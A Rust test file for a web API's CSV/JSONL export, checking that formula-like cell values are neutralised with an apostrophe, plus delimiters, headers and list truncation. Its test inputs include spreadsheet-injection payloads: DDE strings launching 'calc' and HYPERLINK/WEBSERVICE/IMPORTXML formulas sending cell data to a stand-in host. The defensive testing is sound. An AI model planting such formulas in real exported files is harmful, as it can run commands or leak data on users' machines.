//! What is in the files: nothing that a spreadsheet would run, and everything as it was written.

use api::config::Delimiter;
use sea_orm::Value;

use super::*;

/// What a spreadsheet would run, or do more than show.
const FORMULAS: [&str; 26] = [
    "=1+1",
    "=cmd|'/c calc'!A0",
    "=HYPERLINK(\"http://a.example/?x=\"&A1;\"klicka\")",
    "=WEBSERVICE(\"http://a.example\")",
    "=IMPORTXML(CONCAT(\"http://a.example\"; A1); \"//a\")",
    "+1+1",
    "+46 70 123",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\ttext",
    " =1+1",
    "   @SUM(1)",
    "\u{a0}=1+1",
    "\u{3000}=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\u{202e}=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
];

/// What is only text, however hard to write down.
const TEXTS: [&str; 14] = [
    "Åsa Ängström, Örebro",
    "a;b,c\td",
    "\"citat\"",
    "\"",
    "'apostrof'",
    "rad 1\nrad 2\r\nrad 3\r",
    "👩‍👩‍👧‍👦 🇸🇪",
    "e\u{301} \u{1f9d1}\u{200d}\u{1f52c}",
    " mellanslag ",
    "1=1",
    "a@b.example",
    "— tankstreck",
    "2026-11-21",
    "שלום، مرحبا",
];

const DELIMITERS: [(&str, u8); 3] = [("semicolon", b';'), ("comma", b','), ("tab", b'\t')];

#[tokio::test]
async fn what_would_be_a_formula_is_text_and_text_is_as_it_was_written() {
    let app = App::empty().await;
    organisations(&app, FORMULAS.iter().chain(&TEXTS).map(|name| (*name).to_owned())).await;
    let anybody = app.anonymous();
    for (delimiter, byte) in DELIMITERS {
        let table = table(&anybody, "organisations", &[("delimiter", delimiter)], byte).await;
        let names = column(&table, "name");
        for (place, formula) in FORMULAS.iter().enumerate() {
            assert_eq!(names[place], format!("'{formula}"), "{delimiter}");
        }
        assert_eq!(names[FORMULAS.len()..], TEXTS, "{delimiter}");
    }
    // what is no spreadsheet needs no apostrophe
    let told = rows(&anybody, "organisations", &[]).await;
    assert!(told.iter().map(|row| row["name"].as_str()).eq(FORMULAS.iter().chain(&TEXTS).map(|text| Some(*text))));
}

#[tokio::test]
async fn formulas_in_news_are_text_too() {
    let app = App::seeded().await;
    let editor = app.signed_in(&[api::policy::Role::Communicator], "malardalens-universitet", "eva");
    for title in ["=1+1", "+1", "-1", "@A1", "＝1"] {
        let input = json!({ "title": { "sv": title }, "body": { "sv": format!("{title};\n- punkt") } });
        editor.call("createNews", "newsItem { id }", input).await.done();
    }
    let drafts = [("where", r#"{"status":{"eq":"DRAFT"}}"#), ("orderBy", r#"{"field":"TITLE","direction":"ASC"}"#)];
    let table = table(&editor, "news", &drafts, b';').await;
    let titles = column(&table, "titleSv");
    assert_eq!(titles.iter().collect::<BTreeSet<_>>(), ["'=1+1", "'+1", "'-1", "'@A1", "'＝1"].iter().collect());
    assert_eq!(column(&table, "titleEn"), titles);
    let bodies: Vec<_> = titles.iter().map(|title| format!("{title};\n- punkt")).collect();
    assert_eq!(column(&table, "bodySv"), bodies);
}

#[tokio::test]
async fn numbers_and_truths_are_no_text() {
    let world = World::new().await;
    for (number, quantity) in [(1, 2500), (2, 3000)] {
        let set = [
            ("id", id(9000 + number).into()),
            ("initiative_id", id(1030).into()),
            ("organisation_id", id(1).into()),
            ("kind", "MONEY".into()),
            ("quantity", Value::BigInt(Some(quantity))),
            ("unit", "SEK".into()),
        ];
        insert::<entity::contribution::Entity>(&world.app, vec![row::<entity::contribution::Entity>(&world.app, &set)])
            .await;
    }
    let administrator = world.app.as_administrator();
    let mine = [("where", r#"{"kind":{"eq":"MONEY"}}"#)];
    for ((delimiter, byte), expected) in DELIMITERS.into_iter().zip(["2,5", "2.5", "2.5"]) {
        let parameters = [("delimiter", delimiter), mine[0]];
        let table = table(&administrator, "contributions", &parameters, byte).await;
        let quantities = column(&table, "quantity");
        assert_eq!(quantities[0], expected);
        assert!(["3", "3.0", "3,0"].contains(&quantities[1]), "{quantities:?}");
    }
    let told = rows(&administrator, "contributions", &mine).await;
    assert_eq!((told[0]["quantity"].as_f64(), told[1]["quantity"].as_f64()), (Some(2.5), Some(3.0)));
    let table = table(&world.app.anonymous(), "organisations", &[], b';').await;
    assert_eq!(column(&table, "isParty"), ["true", "true"]);
}

#[tokio::test]
async fn a_file_says_what_it_is() {
    let app = App::seeded().await;
    let answer = file(&app.anonymous(), "organisations.csv", &[]).await;
    assert_eq!(answer.headers[header::CONTENT_TYPE], "text/csv; charset=utf-8; header=present");
    let disposition = "attachment; filename=\"organisations-2026-11-21.csv\"";
    assert_eq!(answer.headers[header::CONTENT_DISPOSITION], disposition);
    assert_eq!(answer.headers[header::CACHE_CONTROL], "no-store");
    assert_eq!(answer.headers[header::VARY], "accept-language, authorization");
    assert!(!answer.headers.contains_key(header::ETAG));
    let header = "\u{feff}id;slug;name;shortName;sector;isParty;website;version;createdAt;updatedAt\r\n";
    assert!(answer.text.starts_with(header), "{}", answer.text);
    assert!(answer.text.ends_with("\r\n") && answer.text.matches("\r\n").count() == 4, "{}", answer.text);
    let answer = file(&app.anonymous(), "organisations.jsonl", &[]).await;
    assert_eq!(answer.headers[header::CONTENT_TYPE], "application/jsonl");
    let disposition = "attachment; filename=\"organisations-2026-11-21.jsonl\"";
    assert_eq!(answer.headers[header::CONTENT_DISPOSITION], disposition);
    let head = app.anonymous().request(Method::HEAD, "/export/organisations.jsonl").body(Default::default());
    let head = app.anonymous().send(head.expect("a request")).await;
    assert_eq!((head.status, head.text.as_str()), (StatusCode::OK, ""));
    assert_eq!(head.headers[header::CONTENT_DISPOSITION], disposition);
}

#[tokio::test]
async fn a_setting_says_what_separates_values() {
    let settings = Settings { csv_delimiter: Some(Delimiter::Comma), ..Settings::default() };
    let app = with_organisations(settings, 1).await;
    assert_eq!(table(&app.anonymous(), "organisations", &[], b',').await[0][..2], ["id", "slug"]);
    let semicolon = [("delimiter", "semicolon")];
    assert_eq!(table(&app.anonymous(), "organisations", &semicolon, b';').await[0][..2], ["id", "slug"]);
}

/// Of a list that is longer than a page, the beginning is told, and that there is more.
#[tokio::test]
async fn a_long_list_in_a_row_says_that_it_goes_on() {
    let world = World::new().await;
    let people = (0..101).map(|number| {
        let set = [("id", id(20_000 + number).into()), ("organisation_id", id(1).into())];
        row::<entity::person::Entity>(&world.app, &set)
    });
    insert::<entity::person::Entity>(&world.app, people.collect()).await;
    let owners = (0..101).map(|number| {
        let set = [("initiative_id", Value::from(id(1030))), ("person_id", id(20_000 + number).into())];
        row::<entity::link::initiative_owner::Entity>(&world.app, &set)
    });
    insert::<entity::link::initiative_owner::Entity>(&world.app, owners.collect()).await;
    let administrator = world.app.as_administrator();
    let initiative = tests::rows::api_id("initiative", 1030);
    let wanted = json!({ "id": { "eq": initiative } }).to_string();
    let table = table(&administrator, "initiatives", &[("where", &wanted)], b';').await;
    let owners: Vec<_> = column(&table, "owners.id")[0].split(" | ").collect();
    assert_eq!((owners.len(), owners[100]), (101, "…"));
    let told = rows(&administrator, "initiatives", &[("where", &wanted)]).await;
    assert_eq!(told[0]["owners"]["pageInfo"]["hasNextPage"], true);
    assert_eq!(told[0]["owners"]["nodes"].as_array().map(Vec::len), Some(100));
}
